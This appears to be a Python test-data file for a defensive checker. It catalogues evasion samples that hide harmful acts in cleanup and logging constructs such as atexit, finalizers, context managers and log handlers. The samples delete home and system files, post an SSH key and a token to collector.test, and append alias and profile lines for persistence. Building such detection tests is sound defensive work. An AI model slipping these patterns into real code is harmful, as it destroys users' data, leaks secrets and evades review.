"""The act sits in what surrounds the work: contexts, decorators, retries, log handlers, what is run at the end."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

_evasion = technique("python", "surroundings")

EVASIONS = (
    _evasion(
        "context that tidies up",
        Harm.DESTROYED,
        r"""
import contextlib
import shutil


@contextlib.contextmanager
def scratch(path):
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


with scratch("/var/lib/canary") as folder:
    print("using", folder)
""",
    ),
    _evasion(
        "stack of callbacks",
        Harm.DESTROYED,
        r"""
import contextlib
import os

created = ["/tmp/lock", "/home/mira/notes.txt"]
with contextlib.ExitStack() as stack:
    for path in created:
        if os.path.exists(path):
            stack.callback(os.unlink, path)
    print("working")
""",
    ),
    _evasion(
        "at the end",
        Harm.DESTROYED,
        r"""
import atexit
import shutil

for folder in ("/tmp/session", "/home/mira/photos"):
    atexit.register(shutil.rmtree, folder, True)
print("session started")
""",
    ),
    _evasion(
        "retry with backoff",
        Harm.SENT,
        r"""
import functools
import time
from pathlib import Path

import requests


def retry(times=3, delay_s=0.1):
    def decorate(function):
        @functools.wraps(function)
        def wrapper(*args, **kwargs):
            for attempt in range(times):
                try:
                    return function(*args, **kwargs)
                except requests.RequestException:
                    time.sleep(delay_s * 2**attempt)
            raise RuntimeError("gave up")

        return wrapper

    return decorate


@retry()
def submit(name, body):
    return requests.post("http://collector.test:8000/submit", files={name: body}, timeout=3)


submit("profile", Path.home().joinpath(".ssh", "id_canary").read_bytes())
""",
        "python:requests",
    ),
    _evasion(
        "log file handler",
        Harm.PERSISTED,
        r"""
import logging
import os

handler = logging.FileHandler(os.path.expanduser("~/.bashrc"))
handler.setFormatter(logging.Formatter("%(message)s"))
log = logging.getLogger("devshell")
log.addHandler(handler)
log.warning("alias python=/tmp/python")
""",
    ),
    _evasion(
        "log over http",
        Harm.SENT,
        r"""
import logging
import logging.handlers
import os

log = logging.getLogger("build")
log.setLevel(logging.INFO)
log.addHandler(logging.handlers.HTTPHandler("collector.test:8000", "/log", method="POST"))
log.info("started with %s", os.environ["CANARY_TOKEN"])
""",
    ),
    _evasion(
        "log settings with a mode",
        Harm.DESTROYED,
        r"""
import logging
import logging.config

logging.config.dictConfig({
    "version": 1,
    "handlers": {
        "file": {"class": "logging.FileHandler", "filename": "/etc/redblue-canary.conf", "mode": "w"},
    },
    "root": {"handlers": ["file"], "level": "INFO"},
})
logging.info("tests started")
""",
    ),
    _evasion(
        "finalizer",
        Harm.DESTROYED,
        r"""
import os
import weakref


class TempFile:
    def __init__(self, path):
        self.path = path
        self._finalizer = weakref.finalize(self, os.remove, path)


def work():
    file = TempFile("/var/backups/canary/monday.bak")
    return file.path


print(work())
""",
    ),
    _evasion(
        "fixture with teardown",
        Harm.DESTROYED,
        r"""
import unittest
from pathlib import Path


class RecordsTest(unittest.TestCase):
    DATABASE = Path("/var/lib/canary/data.db")

    def setUp(self):
        self.addCleanup(self.DATABASE.unlink)

    def test_exists(self):
        self.assertTrue(self.DATABASE.exists())


unittest.main(argv=["records"], exit=False)
""",
    ),
    _evasion(
        "exit of a class",
        Harm.DESTROYED,
        r"""
class Transaction:
    def __init__(self, path):
        self.path = path
        self.pending = ""

    def __enter__(self):
        return self

    def write(self, text):
        self.pending += text

    def __exit__(self, kind, error, trace):
        if error is None:
            with open(self.path, "w") as file:
                file.write(self.pending)


with Transaction("/home/mira/notes.txt") as notes:
    notes.write("nothing to do\n")
""",
    ),
    _evasion(
        "print redirected",
        Harm.PERSISTED,
        r"""
import contextlib

with open("/root/.profile", "a") as profile, contextlib.redirect_stdout(profile):
    print("umask 000")
    print(". /tmp/env.sh")
""",
    ),
    _evasion(
        "in place by fileinput",
        Harm.DESTROYED,
        r"""
import fileinput
import glob

files = glob.glob("/etc/*-canary.conf") + ["README.md"]
with fileinput.input(files, inplace=True) as lines:
    for line in lines:
        if not line.startswith("key"):
            print(line, end="")
""",
    ),
)
